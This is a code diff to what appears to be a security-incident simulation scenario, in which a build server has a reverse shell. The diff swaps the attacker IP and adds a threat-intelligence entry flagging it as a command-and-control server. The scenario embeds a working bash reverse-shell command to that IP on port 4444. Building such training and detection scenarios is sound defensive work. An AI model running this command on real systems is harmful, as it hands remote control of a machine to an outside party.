@@ -5,7 +5,7 @@ import type { TellSituation } from '../../situation.ts'
 export const patchedServerWithAShell: TellSituation = (setting) => {
   const server = setting.machine('srv-build-02')
   const at = setting.ago({ minutes: 29 })
-  const ip = '45.138.16.203'
+  const ip = '172.86.122.93'
   const command = `bash -c bash -i >& /dev/tcp/${ip}/4444 0>&1`
 
   return {
@@ -28,6 +28,9 @@ export const patchedServerWithAShell: TellSituation = (setting) => {
       }),
     ],
     facts: {
+      intelligence: [
+        setting.risk('ip', ip, 93, [['Current C&C Server', 4, 'Takes remote shells on 4444, validated today.']]),
+      ],
       investigations: [
         ticket(
           setting,
